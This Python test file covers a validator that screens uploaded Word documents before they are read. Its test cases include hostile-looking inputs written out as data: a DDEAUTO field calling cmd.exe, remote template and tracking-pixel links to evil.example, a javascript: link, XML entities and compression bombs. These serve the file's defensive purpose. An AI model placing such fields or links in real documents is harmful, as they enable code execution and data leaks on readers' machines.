"""Uploaded Word files: what is opened, what is refused before anything reads it."""

from __future__ import annotations

import io
import zipfile
from random import randbytes

import pytest

from program.errors import Refusal
from program.word_files import LARGEST, UNPACKED, require_plain

DOCUMENT = "word/document.xml"
RELS = "word/_rels/document.xml.rels"
SPACE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def pack(**parts: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in {DOCUMENT: b"<w:document/>", **parts}.items():
            packed.writestr(name, data)
    return made.getvalue()


def related(kind: str, target: str) -> bytes:
    return f'<Relationships><Relationship Id="r1" Type="{SPACE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'.encode()


def test_a_plain_file_passes_with_the_address_of_the_school() -> None:
    require_plain(pack(**{RELS: related("hyperlink", "mailto:school@example.org")}))


@pytest.mark.parametrize(
    ("parts", "why"),
    [
        ({"word/vbaProject.bin": b"x"}, "templates-file-macros"),
        ({"word/embeddings/oleObject1.bin": b"x"}, "templates-file-macros"),
        ({"word/activeX/activeX1.xml": b"<x/>"}, "templates-file-macros"),
        ({"[Content_Types].xml": b"<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"}, "templates-file-macros"),
        ({RELS: related("attachedTemplate", "http://evil.example/t.dotm")}, "templates-file-links"),
        ({RELS: related("image", "http://evil.example/pixel.png")}, "templates-file-links"),
        ({RELS: related("hyperlink", "file://server/share")}, "templates-file-links"),
        ({RELS: related("hyperlink", "javascript:alert(1)")}, "templates-file-links"),
        ({DOCUMENT: b'<w:p><w:instrText xml:space="preserve"> DDEAUTO c:\\cmd.exe</w:instrText></w:p>'}, "templates-file-links"),
        ({DOCUMENT: b'<w:fldSimple w:instr="INCLUDEPICTURE http://evil.example/x"/>'}, "templates-file-links"),
        ({DOCUMENT: b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'}, "templates-file-broken"),
        ({DOCUMENT: "<!DOCTYPE a><a/>".encode("utf-16")}, "templates-file-broken"),
        ({"word/media/image1.png": b"0" * (UNPACKED + 1)}, "templates-file-bomb"),
        ({"word/styles.xml": b" " * (4 * 2**20)}, "templates-file-bomb"),
    ],
)  # fmt: skip
def test_what_may_run_fetch_or_swell_is_refused(parts: dict[str, bytes], why: str) -> None:
    with pytest.raises(Refusal) as refusal:
        require_plain(pack(**parts))
    assert refusal.value.text.id == why


def test_a_document_with_many_pictures_passes_and_one_that_swells_does_not() -> None:
    words = "".join(f"<w:p><w:t>Слово {n}</w:t></w:p>" for n in range(20_000)).encode()
    pictures = {f"word/media/image{n}.jpeg": randbytes(40_000) for n in range(60)}
    require_plain(pack(**{DOCUMENT: words}, **pictures))
    # A white picture shrinks to nothing; words never do.
    require_plain(pack(**{"word/media/white.bmp": b"\xff" * 2**21}, **pictures))
    for swollen in ({"word/styles.xml": b" " * 2_500_000}, {"word/media/image.bmp": b"0" * (4 * 2**20)}):
        beside = pictures if "word/styles.xml" in swollen else {}
        with pytest.raises(Refusal) as refusal:
            require_plain(pack(**swollen, **beside))
        assert refusal.value.text.id == "templates-file-bomb"


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"", "templates-file-none"),
        (b"%PDF-1.7", "templates-file-kind"),
        (b"PK\x03\x04 not a zip", "templates-file-broken"),
        (b"0" * (LARGEST + 1), "templates-file-large"),
        (pack()[:-30], "templates-file-broken"),
    ],
)
def test_what_is_no_word_file_is_refused(data: bytes, why: str) -> None:
    with pytest.raises(Refusal) as refusal:
        require_plain(data)
    assert refusal.value.text.id == why
